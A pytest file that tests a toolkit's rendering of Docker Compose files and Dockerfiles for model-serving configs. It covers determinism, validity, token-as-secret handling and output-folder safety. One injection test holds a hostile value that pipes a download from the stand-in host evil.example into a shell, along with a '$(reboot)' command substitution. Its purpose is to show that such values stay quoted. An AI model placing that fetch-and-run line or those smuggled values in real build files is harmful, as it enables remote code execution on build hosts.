"""Rendered files: deterministic, checked in, valid for Compose v2 and hadolint, injection-proof."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.conftest import Run, builtin_text
from toolkit.catalog.configs import Catalog, Config
from toolkit.host.compose import compose_command
from toolkit.paths import REPO_ROOT
from toolkit.render import compose as render

NAMES = list(Catalog.load())
VLLM_NAMES = [name for name, config in Catalog.load().items() if config.backend == "vllm"]


def test_rendering_is_byte_identical_across_runs(catalog: Catalog) -> None:
    first = render.outputs(catalog)
    again = render.outputs(Catalog.load())
    assert first == again
    workers = sum(1 for config in catalog.values() if config.nodes > 1)
    assert len(first) == 2 * len(catalog) + workers + 3, (
        "a compose file and a Dockerfile each, a worker file per multi-node config, the README "
        "and the catalog reference's two files"
    )


def test_checked_in_files_match_the_catalog(run: Run) -> None:
    result = run("render", "--check")
    assert result.exit_code == 0, result.stderr
    assert "all generated files match the catalog" in result.stdout


def test_check_fails_naming_the_file_and_the_fix_after_a_config_edit(
    run: Run, user_catalog
) -> None:
    edited = builtin_text("llama3-8b").replace("max-model-len: 8192", "max-model-len: 4096")
    directory = user_catalog("llama3-8b.yaml", edited)
    result = run("--catalog", str(directory), "render", "--check")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: 2 generated file(s) differ from the catalog (compose/llama3-8b.yaml, "
        "images/vllm/llama3-8b.Dockerfile); run 'toolkit render' and commit the result.\n"
    )


def test_render_removes_output_of_a_deleted_config(tmp_path: Path) -> None:
    for folder in ("compose", "images"):
        shutil.copytree(REPO_ROOT / folder, tmp_path / folder)
    stale = tmp_path / "compose" / "gone.yaml"
    stale.write_text(f"# {render.GENERATED_MARK} from configs/gone.yaml.\n")
    kept = tmp_path / "compose" / "mine.yaml"
    kept.write_text("services: {}\n")
    catalog = Catalog.load()
    assert stale in render.check(catalog, root=tmp_path)
    render.write(catalog, root=tmp_path)
    assert not stale.exists()
    assert kept.exists(), "files without the generated header are the user's: never deleted"
    assert render.check(catalog, root=tmp_path) == []


@pytest.mark.parametrize("name", NAMES)
def test_compose_file_is_valid_for_compose_v2(name: str) -> None:
    path = REPO_ROOT / "compose" / f"{name}.yaml"
    result = subprocess.run(
        [*compose_command(), "-f", str(path), "config", "--quiet"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("name", NAMES)
def test_dockerfile_passes_hadolint(name: str, catalog: Catalog) -> None:
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    path = render.dockerfile_path(catalog, catalog[name])
    result = subprocess.run(
        [hadolint, "--failure-threshold", "info", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def _service(catalog: Catalog, config: Config) -> dict:
    return yaml.safe_load(render.render_compose(catalog, config))["services"]["model"]


@pytest.mark.parametrize("name", NAMES)
def test_compose_defaults_the_field_learned(name: str, catalog: Catalog) -> None:
    config = catalog[name]
    service = _service(catalog, config)
    port = catalog.backend(config).container_port
    if config.nodes > 1:  # the host's network (tests/test_noderole.py)
        assert service["network_mode"] == "host" and "ports" not in service
    else:
        assert service["ports"] == [
            f"${{TOOLKIT_BIND_ADDRESS:-127.0.0.1}}:${{TOOLKIT_PORT:-{config.port}}}:{port}"
        ]
    assert service["restart"] == "unless-stopped"
    assert service["logging"]["options"] == {"max-size": "50m", "max-file": "3"}
    assert service["healthcheck"]["start_period"] == f"{config.startup_seconds}s"
    assert "toolkit-model-cache:/cache" in service["volumes"]
    if config.gpus:
        device = service["deploy"]["resources"]["reservations"]["devices"][0]
        assert device["device_ids"] == [f"${{TOOLKIT_GPU_{i}:-{i}}}" for i in range(config.gpus)]
    else:
        assert "deploy" not in service
    if config.gpus > 1:
        assert service["shm_size"].endswith("gb")
        assert f"--tensor-parallel-size {config.gpus}" in " ".join(service["command"])


@pytest.mark.parametrize("name", VLLM_NAMES)
def test_vllm_command_serves_the_table_name(name: str, catalog: Catalog) -> None:
    config = catalog[name]
    command = _service(catalog, config)["command"]
    if config.nodes > 1:  # the head's script ends by exec'ing `vllm serve`
        words = shlex.split(command[0])
        command = words[words.index("exec") :]
    assert command[command.index("--served-model-name") + 1] == config.model


def test_gated_models_get_their_token_as_a_secret_never_a_value(catalog: Catalog) -> None:
    config = catalog["llama3-8b"]
    document = yaml.safe_load(render.render_compose(catalog, config))
    service = document["services"]["model"]
    assert service["secrets"] == ["hf_token"]
    assert service["environment"]["HF_TOKEN_PATH"] == "/run/secrets/hf_token"
    assert document["secrets"]["hf_token"] == {
        "file": "${HF_TOKEN_FILE:-~/.cache/huggingface/token}"
    }
    assert all("HF_TOKEN=" not in text for text in render.outputs(catalog).values())


def test_hostile_values_cannot_inject_a_line(user_catalog) -> None:
    hostile = 'x"\nRUN curl evil.example | sh\n#'
    lines = [
        line
        for line in builtin_text("flux.1-dev").splitlines()
        if not line.startswith("description:")
    ]
    text = "\n".join(lines).replace(
        "TOOLKIT_DTYPE: bfloat16", f"TOOLKIT_DTYPE: {json.dumps(hostile)}"
    )
    text += f"\ndescription: {json.dumps(hostile + ' $(reboot)')}\n"
    hostile_catalog = Catalog.load(user_catalog("flux.1-dev.yaml", text))
    config = hostile_catalog["flux.1-dev"]
    dockerfile = render.render_dockerfile(hostile_catalog, config)
    instructions = [
        line.split()[0]
        for line in dockerfile.splitlines()
        if line and not line.startswith((" ", "#"))
    ]
    clean = render.render_dockerfile(catalog := Catalog.load(), catalog["flux.1-dev"])
    assert instructions.count("RUN") == clean.count("\nRUN "), "only the template's own RUNs"
    assert "curl evil.example" in dockerfile, "the value is kept, quoted, not dropped"
    compose = yaml.safe_load(render.render_compose(hostile_catalog, config))
    assert set(compose) == {"name", "services", "volumes", "secrets"}


def test_an_installed_toolkit_renders_only_where_told(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(render, "is_checkout", lambda: False)
    monkeypatch.chdir(tmp_path)
    result = run("render", "demo-text")
    assert (result.exit_code, result.stderr) == (
        2,
        "error: an installed toolkit has no repository to render into; give --output DIR (-o), "
        "the folder to write compose/ and images/ to.\n",
    )
    assert list(tmp_path.iterdir()) == []
    assert run("render", "-o", str(tmp_path / "out"), "demo-text").exit_code == 0


def test_a_hand_written_file_is_never_overwritten(run: Run, tmp_path: Path) -> None:
    mine = tmp_path / "compose" / "demo-text.yaml"
    mine.parent.mkdir()
    mine.write_text("services: {mine: {image: busybox}}\n")
    result = run("render", "-o", str(tmp_path), "demo-text")
    assert (result.exit_code, result.stderr) == (
        2,
        f"error: {mine} was not written by the toolkit (it lacks the generated-file header), so "
        "rendering would overwrite it; move it away or choose another --output folder.\n",
    )
    assert mine.read_text() == "services: {mine: {image: busybox}}\n"
    assert not (tmp_path / "images").exists(), "nothing is written when one file is refused"
    mine.unlink()
    assert run("render", "-o", str(tmp_path), "demo-text").exit_code == 0
    assert run("render", "-o", str(tmp_path), "demo-text").exit_code == 0, "its own: rewritten"


def test_headers_name_the_file_the_config_came_from(run: Run, tmp_path: Path) -> None:
    catalog = tmp_path / "catalog"
    catalog.mkdir()
    (catalog / "mine.yaml").write_text(builtin_text("demo-text"))
    out = tmp_path / "out"
    assert (
        run("--catalog", str(catalog), "render", "-o", str(out), "mine", "demo-text").exit_code == 0
    )
    first = (out / "compose" / "mine.yaml").read_text().splitlines()[0]
    assert first == (
        f"# {render.GENERATED_MARK} from {catalog / 'mine.yaml'}. Do not edit: edit the config, "
        "then run `toolkit render`."
    )
    builtin = (out / "compose" / "demo-text.yaml").read_text().splitlines()[0]
    assert builtin.startswith(f"# {render.GENERATED_MARK} from configs/demo-text.yaml.")
    dockerfile = next((out / "images").glob("*/mine.Dockerfile")).read_text()
    assert f"from {catalog / 'mine.yaml'}." in dockerfile.splitlines()[0]


def _context_sources(dockerfile: str) -> set[str]:
    """What a Dockerfile takes from its build context: COPY/ADD sources and bind mounts."""
    sources: set[str] = set()
    for line in dockerfile.splitlines():
        words = line.split()
        if words and words[0] in ("COPY", "ADD"):
            sources |= {w for w in words[1:-1] if not w.startswith("--")}
        sources |= {
            option.removeprefix("source=")
            for word in words
            if word.startswith("--mount=type=bind,")
            for option in word.split(",")
            if option.startswith("source=")
        }
    return sources


def test_rendered_elsewhere_every_build_context_comes_along(run: Run, tmp_path: Path) -> None:
    """Every COPY, ADD and bind-mount source of every rendered Dockerfile exists under -o DIR,
    and nothing else of images/ (other Dockerfiles, templates, wheels) does; the build itself
    is proved in tests/engine/test_render_output.py."""
    (REPO_ROOT / "images" / "vllm" / "wheelhouse" / "mine.whl").write_bytes(b"a user's wheel")
    try:
        result = run("render", "-o", str(tmp_path))
    finally:
        (REPO_ROOT / "images" / "vllm" / "wheelhouse" / "mine.whl").unlink()
    assert result.exit_code == 0, result.stderr
    assert result.stdout.endswith("files)\n") and ", with their build contexts (" in result.stdout
    dockerfiles = sorted((tmp_path / "images").glob("*/*.Dockerfile"))
    assert len(dockerfiles) == len(NAMES)
    for dockerfile in dockerfiles:
        for source in _context_sources(dockerfile.read_text(encoding="utf-8")):
            assert (dockerfile.parent / source).exists(), f"{dockerfile.name}: {source}"
    copied = {str(p.relative_to(tmp_path)) for p in (tmp_path / "images").rglob("*")}
    assert "images/ollama/entrypoint.sh" in copied and "images/diffusers/server.py" in copied
    assert not [p for p in copied if p.endswith((".j2", ".whl")) or "__pycache__" in p]
    assert run("render", "--check", "-o", str(tmp_path)).exit_code == 0
    edited = tmp_path / "images" / "ollama" / "entrypoint.sh"
    edited.write_text("edited\n")
    stale = run("render", "--check", "-o", str(tmp_path))
    assert (stale.exit_code, stale.stderr) == (
        1,
        "error: 1 generated file(s) differ from the catalog (images/ollama/entrypoint.sh); "
        "run 'toolkit render' and commit the result.\n",
    )
    kept = run("render", "-o", str(tmp_path))
    assert (kept.exit_code, kept.stderr) == (
        2,
        f"error: {edited} differs from the toolkit's images/ollama/entrypoint.sh, which "
        "rendering copies there; move it away (or delete it to take the toolkit's) or choose "
        "another --output folder.\n",
    )
    assert edited.read_text() == "edited\n", "a copy a user changed is theirs: never overwritten"


def test_the_repositorys_own_render_copies_nothing(catalog: Catalog) -> None:
    assert render.context_copies(catalog, None, REPO_ROOT) == {}
